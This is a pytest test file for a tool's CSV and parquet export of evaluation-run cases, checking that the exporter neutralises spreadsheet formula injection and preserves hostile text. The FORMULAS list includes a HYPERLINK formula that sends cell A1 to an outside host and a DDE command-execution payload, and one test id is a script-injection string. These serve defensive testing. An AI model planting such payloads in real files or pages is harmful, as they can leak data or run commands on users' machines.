"""The cases of a run as CSV and parquet."""

import csv
import io
import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from example_run import HOSTILE, example_run
from misslink.errors import InputError
from misslink.report import case_table as table
from misslink.report.case_table import (
    case_columns,
    case_rows,
    check_overwritable,
    csv_cell,
    write_csv,
    write_parquet,
)
from misslink.report.json_document import case_records
from misslink.types import Case, Run, Trace
from proven_run import proven_run

FORMULAS = (
    '=HYPERLINK("https://e.org?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "--1",
    "-",
    "=",
    " =1+1",
    "\xa0\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff\u202e+1+1",
    "\u2028=1+1",
    "\ufe661+1",
    "\uff0d1+1",
)


def run_of(*cases, traces=()):
    return Run(manifest={}, cases=cases, traces=traces, verdicts=(), links=(), summary={})


def table_of(run, tmp_path, **options):
    return pd.read_csv(write_csv(run, tmp_path / "report.csv"), **options)


@pytest.fixture(scope="module")
def frame(tmp_path_factory):
    return table_of(proven_run(), tmp_path_factory.mktemp("csv")).set_index("number")


def test_a_row_a_case_under_the_paths_of_the_document(frame):
    run = proven_run()
    assert list(frame["id"]) == [case.id for case in run.cases]
    for record, (number, row) in zip(case_records(run), frame.iterrows(), strict=True):
        assert number == record["number"]
        for name, value in record["metrics"].items():
            shown = row[f"metrics.{name}"]
            assert (pd.isna(shown) and value is None) or shown == value
        for metric, held in record["verdicts"].items():
            assert row[f"verdicts.{metric}.status"] == held["status"]
        assert row["failure"] == record["failure"]


def test_a_case_is_what_was_worked_out_by_hand(frame):
    row = frame.loc[14]
    assert (row["id"], row["correct"], row["tags.topic"]) == (
        "with-exit",
        False,
        "context managers",
    )
    assert (row["metrics.recall@5"], row["metrics.faithfulness"]) == (0, 0.25)
    assert (row["claims.supported"], row["claims.unsupported"]) == (1, 2)
    assert row["verdicts.faithfulness.label"] == False  # noqa: E712
    assert row["missed.passage_id"] == "with#1; with#1; evidence-2"
    assert row["missed.true_rank"].split("; ")[0] == "17"
    assert row["also"] == "fabricated"


def test_numbers_are_numbers_and_what_is_missing_is_empty(frame):
    assert frame["metrics.recall@5"].dtype == float
    assert frame["latency_s"].dtype == float
    assert pd.isna(frame.loc[3, "metrics.recall@5"]), "it needs no passage"
    assert pd.isna(frame.loc[5, "claims.supported"]), "its verdict failed"


def test_it_is_rfc_4180(tmp_path):
    content = write_csv(proven_run(), tmp_path / "report.csv").read_bytes()
    text = content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + len(proven_run().cases)
    assert text.startswith('"number","id","question",')
    assert text.endswith("\r\n")
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert text == again.getvalue()  # every cell between quotes, so that no ; in one parts it
    assert "\0" not in text


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(formula, tmp_path):
    """In every field that text reaches, the names of columns among them."""
    case = Case(id=formula, question=formula, category=formula, tags={formula: formula})
    path = write_csv(run_of(case), tmp_path / "report.csv")
    with path.open(encoding="utf-8", newline="") as file:
        cells = [one for row in csv.reader(file) for one in row]
    assert cells.count(f"'{formula}") == 4  # the id, the question, the category, the tag
    assert not [one for one in cells if one.strip(" \u200b\ufeff")[:1] in tuple("=+-@\t\r\n\uff1d")]


@pytest.mark.parametrize("text", ["", " ", "\u200b", "a = b", "1;=2", " plain", "\u2212 5"])
def test_what_no_spreadsheet_runs_is_left_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", ["-3", "+4.5", "-1e-7", "-.5"])
def test_a_number_is_no_formula(number):
    assert csv_cell(number) == number


def test_formulas_in_lists_are_text_too():
    assert csv_cell(["=1+1", "b"]) == "'=1+1; b"
    assert csv_cell(["a", "=1+1", -3]) == "a; '=1+1; -3"


def test_texts_of_any_kind_are_read_back_as_they_were(tmp_path):
    texts = [f"{place}: {text}" for place, text in enumerate((*HOSTILE, 'a"b', "a,b", "a\r\nb"))]
    cases = [Case(id=f"c{place}", question=text) for place, text in enumerate(texts)]
    found = table_of(run_of(*cases), tmp_path, keep_default_na=False)
    assert list(found["question"]) == [text.replace("\0", "\ufffd") for text in texts]


def test_an_outcome_and_a_metric_of_one_name_are_two_columns():
    """`correct` is both the outcome of a case and a number of a judged metric."""
    names = case_columns(example_run())
    assert len(names) == len(set(names))
    assert {"correct", "metrics.correct"} <= set(names)
    assert set(names) == {name for row in case_rows(example_run()) for name in row}


def test_a_run_without_cases_has_a_header(tmp_path):
    found = table_of(run_of(), tmp_path)
    assert len(found) == 0
    assert {"number", "id", "failure", "claims.supported"} <= set(found.columns)


def test_half_a_surrogate_pair_is_no_obstacle_csv_export(tmp_path):
    case = Case(id="c", question="What?").model_copy(update={"question": "What\ud800?"})
    assert table_of(run_of(case), tmp_path)["question"][0] == "What??"


def test_it_agrees_with_the_document_where_pandas_flattens_that(tmp_path):
    flattened = pd.json_normalize(json.loads(json.dumps(case_records(proven_run()))))
    frame = table_of(proven_run(), tmp_path)
    shared = [name for name in frame.columns if name.startswith(("metrics.", "claims."))]
    assert len(shared) > 10
    pd.testing.assert_frame_equal(frame[shared].astype(float), flattened[shared].astype(float))


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    return pq.read_table(
        write_parquet(proven_run(), tmp_path_factory.mktemp("parquet") / "a.parquet")
    )


def test_it_has_the_columns_of_the_csv_and_every_value_of_the_document(written, tmp_path):
    with table.write_csv(proven_run(), tmp_path / "a.csv").open(
        encoding="utf-8", newline=""
    ) as file:
        assert written.column_names == next(csv.reader(file))
    records = case_records(proven_run())
    assert written.column("id").to_pylist() == [one["id"] for one in records]
    for row, record in zip(written.to_pylist(), records, strict=True):
        values = {name.partition(".")[2]: value for name, value in row.items()
                  if name.startswith("metrics.")}  # fmt: skip
        assert values == record["metrics"]
        assert row["missed.passage_id"] == [one["passage_id"] for one in record["missed"]]
        assert row["missed.true_rank"] == [one["true_rank"] for one in record["missed"]]
        assert (row["correct"], row["failure"]) == (record["correct"], record["failure"])
        assert row["retrieved"] == record["retrieved"]
        for metric, label in record["people"].items():
            assert (row[f"people.{metric}.share"], row[f"people.{metric}.stands"]) == (
                label["share"],
                label["stands"],
            )
        for metric, verdict in record["verdicts"].items():
            assert row[f"verdicts.{metric}.probability"] == verdict["probability"]
    assert 0.0 in written.column("people.faithfulness.share").to_pylist()


def test_columns_have_types_also_where_no_case_has_a_value(written):
    types = {name: written.schema.field(name).type for name in written.column_names}
    assert types["number"] == pa.int64()
    assert types["correct"] == types["verdicts.faithfulness.label"] == pa.bool_()
    assert types["metrics.recall@5"] == types["latency_s"] == pa.float64()
    assert types["verdicts.faithfulness.probability"] == types["metrics.faithfulness"]
    assert types["missed.true_rank"] == pa.list_(pa.int64())
    assert types["also"] == types["retrieved"] == pa.list_(pa.string())
    assert types["claims.unsupported"] == pa.int64()
    assert types["verdicts.faithfulness.status"] == types["tier"] == pa.string()


def test_what_is_missing_is_null_and_no_nan(written):
    assert written.column("metrics.recall@5")[2].as_py() is None, "it needs no passage"
    assert written.column("claims.supported")[4].as_py() is None, "its verdict failed"


def test_pandas_computes_with_it(tmp_path):
    path = write_parquet(example_run(), tmp_path / "a.parquet")
    frame = pd.read_parquet(path)
    missed = frame[frame["failure"] == "retrieval_miss"]
    assert list(missed["id"]) == ["<script>window.pwned = 1</script>", "with-exit"]
    assert missed["metrics.faithfulness"].mean() == pytest.approx((0.25 + 0.4) / 2)


@pytest.mark.parametrize("text", [*HOSTILE, "=1+1", "a\0b", "\u2028", "", "\U0001f40d"])
def test_a_text_is_what_it_was(text, tmp_path):
    case = Case(id="c", question=f"What of {text}?", category=text, tags={text: text})
    written = pq.read_table(write_parquet(run_of(case), tmp_path / "a.parquet"))
    assert written.column(f"tags.{text}").to_pylist() == [text]
    assert written.column("category").to_pylist() == [text]


def test_half_a_surrogate_pair_is_no_obstacle_parquet_export(tmp_path):
    case = Case(id="c", question="?").model_copy(
        update={"question": "What\ud800?", "tags": {"a\udc00": "b\ud800"}}
    )
    written = pq.read_table(write_parquet(run_of(case), tmp_path / "a.parquet"))
    assert written.column("question").to_pylist() == ["What??"]
    assert written.column("tags.a?").to_pylist() == ["b?"]


def test_a_run_without_cases_has_columns_and_no_row(tmp_path):
    written = pq.read_table(write_parquet(run_of(), tmp_path / "a.parquet"))
    assert written.num_rows == 0
    assert {"number", "id", "failure", "missed.passage_id", "retrieved"} <= set(
        written.column_names
    )


def test_it_is_written_in_groups_of_rows(tmp_path, monkeypatch):
    monkeypatch.setattr(table, "_BATCH_ROWS", 4)
    file = pq.ParquetFile(write_parquet(example_run(), tmp_path / "a.parquet"))
    groups = [file.metadata.row_group(at).num_rows for at in range(file.num_row_groups)]
    assert groups == [4, 4, 4, 2]
    assert file.read().column("number").to_pylist() == list(range(1, 15))


def test_what_cannot_be_written_leaves_the_old_file_and_no_part(tmp_path):
    path = write_parquet(example_run(), tmp_path / "a.parquet")
    before = path.read_bytes()
    twice = run_of(Case(id="c", question="?"), traces=(Trace(case_id="c"), Trace(case_id="c")))
    with pytest.raises(InputError, match="two traces have the id 'c'"):
        write_parquet(twice, path)
    assert path.read_bytes() == before
    assert [one.name for one in tmp_path.iterdir()] == ["a.parquet"]


def test_a_path_that_takes_no_file_is_one_sentence(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(InputError, match="this is a folder; give another path"):
        write_parquet(example_run(), tmp_path)
    with pytest.raises(InputError, match=r"it cannot be written \(.*\); give another path"):
        write_parquet(example_run(), tmp_path / "file" / "a.parquet")


def test_a_file_that_misslink_did_not_write_is_not_written_over(tmp_path):
    path = tmp_path / "a.parquet"
    check_overwritable(path)
    write_parquet(example_run(), path)
    check_overwritable(path)
    pq.write_table(pa.table({"mine": [1]}), path)
    with pytest.raises(InputError, match="misslink did not write it; move it"):
        check_overwritable(path)
    path.write_text("no parquet at all")
    with pytest.raises(InputError, match="did not write it"):
        check_overwritable(path)
